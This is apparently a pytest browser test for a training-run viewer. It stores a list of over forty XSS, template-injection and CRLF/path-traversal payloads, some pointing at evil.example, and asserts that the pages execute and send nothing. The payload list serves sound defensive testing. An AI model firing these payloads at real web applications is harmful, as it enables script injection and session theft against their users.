"""The viewer shows all texts of agents, pages and tasks in a run, and executes none of them, in a real browser."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser

from cairn.core.records import TAMPERING, Ending, Episode, Task
from cairn.core.store import RunStore
from tests.sampling import sampled_params
from tests.viewer.browsing import Watched, served
from tests.viewer.stored import CONFIG, HALL, episode, make_run, png, turn

PAYLOADS = (
    "<script>alert(1)</script>",
    "</pre><script>alert(2)</script>",
    "</title><script>alert(3)</script>",
    "</textarea></style></script><script>alert(4)</script>",
    "<img src=x onerror=alert(5)>",
    "<svg onload=alert(6)>",
    "<svg><script>alert(7)</script></svg>",
    "</svg><svg><animate onbegin=alert(8) attributeName=x dur=1s>",
    "<iframe src='javascript:alert(9)'></iframe>",
    '<iframe srcdoc="<script>alert(10)</script>"></iframe>',
    "<body onload=alert(11)>",
    "<details open ontoggle=alert(12)>",
    "<input autofocus onfocus=alert(13)>",
    "<video><source onerror=alert(14)></video>",
    "<a href='javascript:alert(15)' id=first>go</a>",
    "<math><mi xlink:href='data:x,<script>alert(16)</script>'></mi></math>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/y.css';</style>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example/><button autofocus>x</button></form>",
    "<object data=http://evil.example/z.swf></object>",
    "<embed src=http://evil.example/z>",
    "<marquee onstart=alert(24)>",
    '" autofocus onfocus=alert(25) x="',
    "' onmouseover='alert(26)",
    '"><script src=http://evil.example/a.js></script>',
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${alert(29)}`${alert(30)}`",
    "javascript:alert(31)",
    "&lt;script&gt;alert(32)&lt;/script&gt;",
    "<scr\x00ipt>alert(33)</scr\x00ipt>",
    "\u202e<script>alert(34)</script>\u2066",
    "<!--><script>alert(35)</script-->",
    "<![CDATA[<script>alert(36)</script>]]>",
    "\ud800<script>alert(37)</script>",
    "]]></script><script>alert(38)</script>",
    "<noscript><p title='</noscript><script>alert(39)</script>'>",
    "+ADw-script+AD4-alert(40)+ADw-/script+AD4-",
    "url(http://evil.example/u.png)",
    "../../../../etc/passwd\r\nSet-Cookie: a=b",
    "<template><script>alert(42)</script></template><p data-live=http://evil.example/ data-copy=x data-graph>",
)
ALL = "\n".join(PAYLOADS)
DIGITS = 49 * 49  # a template would evaluate payload 28 to this


def hostile_run(folder: Path) -> Path:
    """Write a run with the payloads in every field of foreign text."""
    safe = [p.encode("utf-8", "replace").decode() for p in PAYLOADS]  # SQLite's texts have no lone surrogates
    episodes = [
        episode(
            [
                turn(
                    f"{ALL} {i}",
                    HALL + i % 3,
                    safe[i],
                    float(i % 2),
                    channels={safe[i]: 1.0},
                    image=png(),
                    policy_version=1,
                )
                for i in range(j, min(j + 15, len(PAYLOADS)))
            ],
            success=j == 0,
            task=safe[0],
        )
        for j in (0, 15, 30)
    ]
    failed = Episode(
        task=Task(env_id=safe[4], task_id=safe[5]),
        group_id=1,
        turns=(),
        ending=Ending.failed("environment", "\n".join(safe)),
        score=None,
        success=None,
    )
    config: dict[str, Any] = {  # Any: settings
        "name": safe[2],
        "env": {"id": safe[3], "config": {name: name for name in safe}},
        "trainer": {"updates": 99},
        "credit": {"method": safe[0]},
    }
    make_run(folder, [*episodes, failed], config=config, metrics=dict.fromkeys(safe, 1.0) | {"success": 0.5})
    with RunStore(folder / "run.sqlite") as store:
        store.set_meta({"versions": {name: name for name in safe}, safe[0]: safe})
        for i, name in enumerate(safe):
            store.event(1, name, name)
            store.environment(name, 1, {name: name})
            store.checkpoint(i, name)
    return folder


def hostile_evaluation(folder: Path) -> Path:
    """Write an evaluation with the payloads as agent, settings, families, environments, tasks and their types."""
    safe = [p.encode("utf-8", "replace").decode() for p in PAYLOADS]
    parts = [{"family": p, "env": p, "version": 1, "tasks": {p: ""}} for p in safe]
    played = [episode([turn(p, HALL, p, channels={TAMPERING + p: 1.0})], success=True, task=p) for p in safe]
    folder.mkdir(parents=True)
    with RunStore(folder / "run.sqlite") as store:
        store.set_meta(
            {
                "agent": "".join(safe),
                "panel": {"name": "hostile", "summary": safe[0], "parts": parts},
                "facts": {"agent_settings": {p: p for p in safe}},
                "tasks": [{p: {"type": p, "difficulty": p}} for p in safe],
                "ranges": [[0.0, 1.0]] * len(safe),
                "gates": [{"holds": False, "reasons": [p]} for p in safe],
            }
        )
        for number, each in enumerate(played):
            store.add(number, {}, [each], phase="eval", task_types=[safe[number]])
    return folder


@pytest.fixture(scope="module")
def origin(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    folder = tmp_path_factory.mktemp("runs")
    name = "<img src=x onerror=alert(99)>\"'{{ 7*7 }}"
    others = [make_run(folder / "<script>alert(98)", config=CONFIG), hostile_evaluation(folder / "evaluation")]
    damaged = folder / "<img src=x onerror=alert(97)>"
    damaged.mkdir()
    (damaged / "run.sqlite").write_bytes(b"no database" * 100)
    with served([hostile_run(folder / name), *others, damaged]) as url:
        yield url


@pytest.fixture(scope="module")
def watched(origin: str, browser: Browser) -> Watched:
    return Watched(browser, origin)


RUN = "/runs/1-img-src-x-onerror-alert-99-7-7"
GROUP = f"{RUN}/groups/train/1/0"
PAGES = (
    "/",
    "/live",
    "/?metric=%3Cscript%3Ealert(1)%3C/script%3E",
    RUN,
    f"{RUN}/live",
    f"{RUN}?metric=%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    f"{RUN}/groups",
    f"{RUN}/groups?phase=%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    GROUP,
    f"{GROUP}/graph",
    f"{GROUP}/graph?method=closure&against=gigpo&node=0",
    f"{GROUP}/graph?method=%3Cscript%3Ealert(1)%3C/script%3E&against=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
    f"{RUN}/groups/train/1/1",
    f"{RUN}/episodes",
    f"{RUN}/episodes?task=%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    f"{RUN}/episodes/1",
    f"{RUN}/episodes/2?colour=advantage",
    f"{RUN}/episodes/3?from=0&colour=%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    f"{RUN}/episodes/4",
    f"{RUN}/anchors/{HALL:016x}",
    f"{RUN}/credit",
    f"{RUN}/credit?method=%3Cscript%3Ealert(1)%3C/script%3E",
    f"{RUN}/system",
    "/runs/3-evaluation",
    "/runs/3-evaluation/live",
    "/runs/3-evaluation/groups?phase=eval&step=3",
    "/%3Cscript%3Ealert(1)%3C/script%3E",
)


def test_there_are_enough_payloads() -> None:
    assert len(set(PAYLOADS)) >= 40


@pytest.mark.parametrize("path", sampled_params(PAGES, parts=4))
def test_payloads_execute_nothing_and_send_nothing(path: str, origin: str, watched: Watched) -> None:
    watched.faults.clear()
    page = watched.page
    answer = page.goto(origin + path, wait_until="load")
    assert answer is not None
    for summary in page.query_selector_all("summary"):
        summary.evaluate("each => { each.parentElement.open = true; }")
    page.mouse.move(200, 300)
    page.keyboard.press("Tab")
    page.evaluate("new Promise(requestAnimationFrame)")
    notes = f"responded with a status of {answer.status}"  # the browser's own, where a page is not found
    assert [fault for fault in watched.faults if notes not in fault or answer.status == 200] == []
    inline = "Array.from(document.scripts).filter(each => !each.src.startsWith(location.origin)).length"
    assert page.evaluate(inline) == 0
    handlers = "[...document.querySelectorAll('*')].flatMap(e => e.getAttributeNames()).filter(n => n.startsWith('on'))"
    assert page.evaluate(handlers) == []
    ours = (
        "html, head, body, meta, title, link, script, a, header, img, nav, button, main, p, h1, h2, h3, small, dl, div"
    )
    ours += (
        ", dt, dd, span, b, figure, figcaption, ul, li, svg, line, text, path, circle, rect, details, summary, table"
    )
    ours += (
        ", thead, tbody, tr, th, td, form, label, select, option, input, meter, pre, article, section, code, kbd, br"
    )
    ours += ", defs, marker, tspan"
    assert (
        page.evaluate(f"[...document.querySelectorAll('*')].filter(e => !e.matches('{ours}')).map(e => e.outerHTML)")
        == []
    )
    assert str(DIGITS) not in page.content()


def test_the_texts_are_shown_as_they_are(origin: str, watched: Watched) -> None:
    watched.page.goto(f"{origin}{RUN}/episodes/1")
    shown = watched.page.locator("#observation-0").inner_text()
    assert "<script>alert(1)</script>" in shown
    assert "<img src=x onerror=alert(5)>" in shown
    assert "&lt;script&gt;alert(32)&lt;/script&gt;" in shown
    assert "<scr\ufffdipt>" in shown


def test_an_injected_script_would_be_seen(origin: str, watched: Watched) -> None:
    watched.faults.clear()
    watched.page.goto(origin)
    watched.page.evaluate(
        "document.body.append(document.createRange().createContextualFragment('<img src=http://evil.example/>'))"
    )
    watched.page.evaluate("alert(1)")
    assert "dialog 1" in watched.faults
    assert any("evil.example" in fault for fault in watched.faults)  # and the policy of the page refuses it


def test_a_long_text_is_cut_and_saved_whole(tmp_path: Path, browser: Browser) -> None:
    long = "<b>" + "x" * 10_000
    run = make_run(tmp_path / "long", [episode([turn(long, HALL, "wait")], success=True)])
    with served([run]) as url:
        watched = Watched(browser, url)
        watched.page.goto(f"{url}/runs/1-long/episodes/1")
        assert len(watched.page.locator("#observation-0").inner_text()) == 4000
        assert watched.page.locator("section p.note", has_text="6,003 more characters").count() == 1
        with watched.page.expect_download() as saved:
            watched.page.get_by_text("save all of it as text").first.click()
        assert Path(saved.value.path()).read_text() == long


def test_an_invalid_picture_is_not_served(tmp_path: Path, browser: Browser) -> None:
    faked = [turn("A", HALL, "wait", image=b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")]
    run = make_run(tmp_path / "faked", [episode(faked, success=True)])
    with served([run]) as url:
        watched = Watched(browser, url)
        watched.page.goto(f"{url}/runs/1-faked/episodes/1")
        assert watched.page.locator(".shot").count() == 0
        answer = watched.page.goto(f"{url}/runs/1-faked/episodes/1/turns/0/picture.png")
        assert answer is not None
        assert answer.status == 404


def test_an_observation_has_an_image(tmp_path: Path, browser: Browser) -> None:
    run = make_run(tmp_path / "seen", [episode([turn("A", HALL, "wait", image=png(3, 5))], success=True)])
    with served([run]) as url:
        watched = Watched(browser, url)
        watched.page.goto(f"{url}/runs/1-seen/episodes/1")
        shot = watched.page.locator(".shot img")
        shot.scroll_into_view_if_needed()
        watched.page.wait_for_function("document.querySelector('.shot img').complete")
        assert shot.evaluate("each => [each.naturalWidth, each.naturalHeight]") == [3, 5]
